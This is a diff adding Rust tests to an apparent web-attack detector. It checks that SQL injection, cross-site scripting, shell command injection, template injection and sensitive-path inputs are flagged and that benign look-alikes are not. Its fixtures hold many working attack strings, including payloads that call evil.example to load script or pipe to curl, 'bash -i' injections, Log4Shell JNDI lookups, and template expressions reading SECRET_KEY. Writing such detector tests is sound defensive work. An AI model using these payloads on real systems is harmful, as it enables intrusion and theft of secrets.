@@ -107,6 +107,132 @@ fn everyday_values_raise_nothing() {
 }
 
 #[test]
+fn parameters_that_are_named_as_functions_or_words_of_sql_raise_nothing() {
+    for value in [
+        "https://shop.example/orders?page=1&user_id=5",
+        "/orders?page=1&version=2",
+        "a=1&host_name=x&row_count=5&session_user=ann&current_user=7",
+        "isGpcEnabled=0&datestamp=Mon&version=202401.1.0&browserGpcFlag=0&isIABGlobal=false",
+        "?a=1&case=5",
+        "?a=1&select=5",
+        "phone & case",
+        "Law & case studies",
+        "dvd|case",
+        "=IF(A1>5,\"yes\",\"no\")",
+        "src/login.c: Ignore the return value of alarm() and sleep().",
+        "the @@ of a diff & @@ again",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Sqli,
+        &[
+            "7' or current_user='sa'--",
+            "7 and version()>5",
+            "7' and version() like '5%'--",
+            "7 or case when 2=2 then 1 else 0 end",
+            "7 or (case 7 when 7 then 1 end)=1",
+            "7 or 3=(select 3)",
+            "7 and @@version>5",
+        ],
+    );
+}
+
+#[test]
+fn filler_between_the_parts_of_an_attack_hides_nothing() {
+    for (before, filler, after) in [
+        ("7;", " ", "cat /etc/hosts"),
+        ("7$(", "\t", "cat /etc/hosts)"),
+        ("7;c", "''", "at /etc/hosts"),
+        ("7;/", "./", "bin/cat /etc/hosts"),
+        ("<img src=x onerror", " ", "=f(7)>"),
+        ("<a href=\"java", "\t", "script:f(7)\">"),
+        ("", " ", "javascript:alert(7)"),
+        ("javascript:/*", "a", "*/alert(7)"),
+        ("<a href=&#", "0", "106;avascript:f(7)>"),
+        ("<meta a=", "b", " http-equiv=refresh content='0;url=//evil.example'>"),
+        ("';", " ", "alert(7)//"),
+        ("';alert", " ", "(7)//"),
+        ("7' union#", "a", "\nselect a,b#"),
+        ("7' or ", "(", "7=7-- "),
+        ("7' or ", "not ", "7=8-- "),
+        ("7' or -", "~", "7=7-- "),
+        ("root'", ")", "-- "),
+        ("7'", ")", " or 7=7-- "),
+        ("root'-- ", "a", ""),
+        ("root'#", "a", ""),
+        ("root' -- ", "a", ""),
+        ("${${", "a", ":-j}ndi:ldap://evil.example/a}"),
+        ("{{", " ", "7*7}}"),
+        ("{{'", "a", "'.__class__}}"),
+    ] {
+        for count in [1, 13, 40, 600, 3000] {
+            let value = format!("{before}{}{after}", filler.repeat(count));
+            assert!(rule_of(&value).is_some(), "{before}{count} times {filler:?}{after}");
+        }
+    }
+    for value in [
+        "Ladies' -- new arrivals of the season, all sizes",
+        "5' -- a length that some would call short",
+        "{{ a }} and `b` }}",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
+fn lists_of_words_that_are_also_commands_raise_nothing() {
+    for value in [
+        "java; php; python",
+        "java\r\npython\r\nruby",
+        "id\nname\ndate\n",
+        "art; history; music",
+        "id;name;date",
+        "no|yes",
+        "first|last",
+        "true;false",
+        "asc|id",
+        "date;time",
+        "admin|users",
+        "python & ruby",
+        "fish & bash party",
+        "dog's; host; first",
+        "B\u{fc}cher; date; Musik",
+        "https://x.example/a?b=c&sort",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Command,
+        &[
+            "7;id",
+            "a;id",
+            "x|python",
+            "ann;id;",
+            "ann;id #",
+            "ann | curl http://evil.example",
+            "../a;id",
+            "ann&&id",
+            "ann;whoami",
+            "ann|bash -i",
+            "ann';id",
+            "ann;i'd'",
+        ],
+    );
+}
+
+#[test]
+fn names_of_elements_that_need_an_attribute_are_words_without_one() {
+    for value in ["git notes show [<object>]", "the <base> of it", "<set>", "<param >", "<xml/>", "use <embed"] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+    assert_found(
+        Class::Xss,
+        &["<object data=x>", "<base href=//evil.example>", "<set/attributeName=href to=x>", "<iframe>"],
+    );
+}
+
+#[test]
 fn finds_sql_in_every_context_and_dialect() {
     assert_found(
         Class::Sqli,
@@ -154,6 +280,46 @@ fn finds_sql_in_every_context_and_dialect() {
 }
 
 #[test]
+fn finds_sql_of_single_dialects_and_clauses() {
+    assert_found(
+        Class::Sqli,
+        &[
+            "7' order by 4 desc-- -",
+            "7' or 3::int=3-- -",
+            "' or '{\"b\":2}'::jsonb @> '{}'::jsonb--",
+            "7; do $$ begin perform pg_sleep(9); end $$--",
+            "7; show tables--",
+            "7' ; vacuum-- -",
+            "eve', is_admin = 1 -- ",
+            "x',null,null)--",
+            "x' returning password--",
+            "x') on conflict do nothing--",
+            "7'or'7",
+            "7'xor'7",
+            "7'%a0or%a03=3",
+            "%c0%a7%c0%a0or 3=3--",
+            "id,(select 3)",
+            "name,1/(select 0)",
+            "id rlike (select 3)",
+        ],
+    );
+    for value in [
+        "join the two marks with \"and\"",
+        "a '+' or 'x'",
+        "the dogs' owner, and so on -- or not",
+        "it's a list, is it -- ",
+        "O'Brien, Ann --",
+        "\"quoted\", and then --",
+        "ratio 1:2 or 3:4",
+        "see std::fmt or core::fmt",
+        "\u{e0} la carte \u{e0} midi",
+        "price, (select one)",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_script_wherever_a_browser_would_run_it() {
     assert_found(
         Class::Xss,
@@ -188,6 +354,49 @@ fn finds_script_wherever_a_browser_would_run_it() {
             "<\0script>f(7)</\0script>",
         ],
     );
+}
+
+#[test]
+fn finds_script_that_goes_on_with_an_object_or_calls_by_another_way() {
+    assert_found(
+        Class::Xss,
+        &[
+            "';window.alert(7)//",
+            "'-top['al'+'ert'](7)-'",
+            "';location.href='//evil.example'//",
+            "');$.getScript('//evil.example')//",
+            "'-import('//evil.example')-'",
+            "';new Function('f(7)')()//",
+            "7;document.write('<b>')",
+            "alert?.(7)",
+            "(alert)(7)",
+            "alert.call(null,7)",
+            "alert/**/(7)",
+            "[7].map(alert)",
+            "'-{onerror=alert}throw 7-'",
+            "7;alert(7)",
+            "*/alert(7)/*",
+            "7-alert(7)",
+            "<div @click=alert(7)>",
+            "<div v-on:click=\"f(7)\">",
+            "<div x-init=f(7)>",
+            "<input ng-focus=f(7)>",
+            "[x]( javascript:f(7))",
+        ],
+    );
+    for value in [
+        "- alert (3) people",
+        "  this.set('view', View);\n  this.set('views', resolve('views'));",
+        "run before [`--import`][] is read",
+        "'a' + this.title",
+        "\"top\", \"self\" and \"parent\".",
+        "news. Then more of it",
+        "ann@parent.example (mail)",
+        "array.map(f)",
+        "mail <ann@example.com>, see @home = (here)",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
 }
 
 #[test]
@@ -252,6 +461,46 @@ fn finds_commands_behind_separators_substitutions_and_calls() {
 }
 
 #[test]
+fn finds_commands_that_a_shell_puts_together_or_that_another_runs() {
+    assert_found(
+        Class::Command,
+        &[
+            "192.0.2.7|grep root /etc/hosts",
+            "7;sed p /etc/hosts",
+            "7;openssl s_client -connect x:9",
+            "7;kill -9 7",
+            "x;A=7 cat /etc/hosts",
+            "x;env A=7 cat /etc/hosts",
+            "x;timeout 5 cat /etc/hosts",
+            "192.0.2.7&who^ami",
+            "7|c^at x",
+            "7;who$()ami",
+            "7;$'cat' /etc/hosts",
+            "7;/b?n/c?t /etc/hosts",
+            "7;${PATH:0:7}bin",
+            "7;$0<<<id",
+            "7$(which cat) /etc/hosts",
+            "7<(curl http://evil.example)",
+            "7&&echo x",
+        ],
+    );
+    for value in [
+        "session=abc; theme=dark; a=7 b",
+        "lang=en; note=see the cat",
+        "it was short; python was left out of it, see the notes",
+        "costs $0.99; or less",
+        "a|b^c",
+        "x > (time), y < (top)",
+        "$(MAKE) and $(document)",
+        "${name:-none} and ${a:b}",
+        "where? /a?b/ or so",
+        "https://x.example/?a=1&b=2 cat -x",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_what_a_template_engine_would_run() {
     assert_found(
         Class::Template,
@@ -271,6 +520,53 @@ fn finds_what_a_template_engine_would_run() {
             "${\"freemarker.template.utility.Execute\"?new()('id')}",
         ],
     );
+}
+
+#[test]
+fn finds_names_of_files_and_of_templates_that_give_settings_away() {
+    assert_found(
+        Class::Path,
+        &[
+            "/.env",
+            "/.git/config",
+            ".git/HEAD",
+            "/srv/www/wp-config.php",
+            "META-INF/context.xml",
+            "\\etc\\passwd",
+            "index.php::$DATA",
+            "x.php%00.jpg",
+            "compress.bzip2://x",
+            "data:text/plain;base64,PD9waHAgZigpOz8+",
+        ],
+    );
+    assert_found(
+        Class::Template,
+        &[
+            "{{config['SECRET_KEY']}}",
+            "{{settings.SECRET_KEY}}",
+            "{{request.environ}}",
+            "{{['id']|sort('system')}}",
+            "<#assign x=7>",
+            "{$smarty.version}",
+            "${ jndi:ldap://evil.example/a}",
+            "${j${x:-n}di:ldap://evil.example/a}",
+        ],
+    );
+    for value in [
+        ".env",
+        "wp-config.php",
+        ".gitignore",
+        "git@example.com:a/b.git",
+        "/a/b.git/info/refs",
+        "{{settings.name}} and {{config.title}}",
+        "<# of items>",
+        "{$name}",
+        "${a:-${b:-c}}",
+        "`${n} of ${count}`",
+        "std::vector::data",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
 }
 
 #[test]
@@ -364,7 +660,7 @@ mod properties {
         "document", ".", "cookie", "[", "]", "'", "\"", " ", "\n", "\0", "..", "/", "\\", "etc", "0x2e", "0x2f", "\u{1a}", ";", "|",
         "||", "&", "&&", "id", "ls", "cat ", "system", "exec", "phpinfo", "$", "{", "}", "_get[", "ifs", "{{", "{%", "${", "#{", "7*7",
         "jndi:", "j", "java.lang.runtime", "#_memberaccess", "constructor", "prototype", "__proto__", "a", "1", "-", "!--#exec", "?php",
-        "/bin/sh -c ", "expression", "style", "<a ", "import", "freemarker", ".template.utility", "getruntime", "().exec", "%",
+        "/bin/sh -c ", "expression", "style", "<a ", "import", "freemarker", "top", "?.", ".call", "map", "alert)", "Function", "this", " @click", "onerror", "/**/", ".template.utility", "getruntime", "().exec", "%",
     ];
 
     proptest! {
